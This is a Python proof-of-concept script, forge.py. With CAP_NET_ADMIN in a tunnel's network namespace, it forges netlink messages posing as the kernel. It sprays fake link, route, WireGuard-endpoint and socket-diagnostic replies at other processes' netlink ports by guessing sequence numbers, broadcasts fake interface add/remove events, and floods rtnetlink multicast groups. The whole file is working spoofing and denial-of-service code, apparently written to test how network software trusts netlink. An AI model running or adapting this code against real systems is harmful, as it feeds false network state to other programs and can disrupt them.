# SPDX-License-Identifier: GPL-2.0-or-later
#
# With CAP_NET_ADMIN in the netns of a tunnel: speaks as the kernel to everybody's netlink sockets there.
#   forge.py answers IFNAME IFINDEX KIND TYPE SECONDS   to each port: link, route, WireGuard's state, sockets
#   forge.py groups IFNAME IFINDEX KIND TYPE SECONDS    to rtnetlink's groups, twice: it is there, it is gone
#   forge.py flood SECONDS                              to rtnetlink's groups, as fast as it goes
# Each first convinces itself (the control) that a socket which asks nobody's leave does hear it.
import os, socket, struct, sys, time

ROUTE, SOCK_DIAG, GENERIC = 0, 4, 16
NEWLINK, DELLINK, NEWROUTE, NEWADDR = 16, 17, 24, 20
GROUPS = 1 | 1 << 4 | 1 << 6 | 1 << 8 | 1 << 10  # link, IPv4's addresses and routes, IPv6's


def attribute(kind, data):
    n = 4 + len(data)
    return struct.pack("HH", n, kind) + data + b"\0" * (-n % 4)


def message(kind, seq, port, body):
    return struct.pack("IHHII", 16 + len(body), kind, 0, seq, port) + body


def link(kind, seq, port, name, index, what, hardware):
    up = 0x11043  # UP, RUNNING, LOWER_UP …
    body = struct.pack("BBHiII", 0, 0, hardware, index, up, 0)
    body += attribute(3, name.encode() + b"\0") + attribute(18, attribute(1, what.encode() + b"\0"))
    return message(kind, seq, port, body)


def route(seq, port, index):
    body = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 0, 0, 1, 0) + attribute(4, struct.pack("I", index))
    return message(NEWROUTE, seq, port, body)


def wireguard(seq, port):
    """An answer to the family's name (1 CTRL_ATTR_FAMILY_ID), and to the device's state: one endpoint."""
    if seq % 2:
        return message(16, seq, port, struct.pack("BBH", 1, 2, 0) + attribute(1, struct.pack("H", 30)))
    peer = attribute(4, struct.pack(">HH4s8x", 0x0200, 9, socket.inet_aton("198.51.100.9")))
    body = struct.pack("BBH", 0, 1, 0) + attribute(6, struct.pack("H", 9)) + attribute(8, attribute(0, peer))
    return message(30, seq, port, body)


def open_socket(seq, port):
    """inet_diag_msg: TCP to 198.51.100.9:9, of nobody."""
    ends = struct.pack(">HH4s12x4s12x", 5555, 9, socket.inet_aton("10.9.0.3"), socket.inet_aton("198.51.100.9"))
    return message(20, seq, port, struct.pack("BBBB", 2, 1, 0, 0) + ends + struct.pack("IIIIIIII", 0, 1, 0, 0, 0, 0, 0, 1))


def ports(protocol):
    with open("/proc/thread-self/net/netlink") as f:
        rows = [line.split() for line in f][1:]
    return [int(r[2]) for r in rows if int(r[1]) == protocol and int(r[2]) > 0]


def open_netlink(protocol):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    s.bind((0, 0))
    return s


def main():
    what, seconds = sys.argv[1], float(sys.argv[-1])
    sender = {p: open_netlink(p) for p in (ROUTE, SOCK_DIAG, GENERIC)}
    control = open_netlink(ROUTE)
    control.setsockopt(270, 1, 1)  # NETLINK_ADD_MEMBERSHIP: links
    own = {s.getsockname()[0] for s in [*sender.values(), control]}
    if what != "flood":
        name, index, kind, hardware = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
    sent = refused = 0

    def send(protocol, data, port=0, groups=0):
        nonlocal sent, refused
        try:
            sender[protocol].sendto(data, socket.MSG_DONTWAIT, (port, groups))
            sent += 1
        except OSError:
            refused += 1

    if what == "answers":
        send(ROUTE, link(NEWLINK, 1, 0, name, index, kind, hardware), control.getsockname()[0])
    elif what == "groups":
        send(ROUTE, link(NEWLINK, 0, 0, name, index, kind, hardware), 0, 1)
    else:
        send(ROUTE, link(NEWLINK, 0, 0, "flood", 4711, "dummy", 1), 0, 1)
    control.settimeout(5)
    print("control heard", len(control.recv(4096)), flush=True)
    control.close()
    sent = refused = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if what == "answers":
            for low in range(1, 800, 100):  # numbers that are older are skipped, one that is right is taken
                for protocol in sender:
                    for port in set(ports(protocol)) - own:
                        for seq in range(low, low + 100):
                            if protocol == ROUTE and seq % 2:
                                data = link(NEWLINK, seq, port, name, index, kind, hardware)
                            elif protocol == ROUTE:
                                data = route(seq, port, index)
                            else:
                                data = (wireguard if protocol == GENERIC else open_socket)(seq, port)
                            send(protocol, data, port)
                time.sleep(0.1)
        elif what == "groups":
            send(ROUTE, link(NEWLINK, 0, 0, name, index, kind, hardware), 0, GROUPS)
            send(ROUTE, link(DELLINK, 0, 0, name, index, kind, hardware), 0, GROUPS)
            time.sleep(0.05)
        else:
            data = link(NEWLINK, 0, 0, "flood", 4711, "dummy", 1)
            for _ in range(1000):
                send(ROUTE, data, 0, GROUPS)
    print("sent", sent, "refused", refused, flush=True)


main()
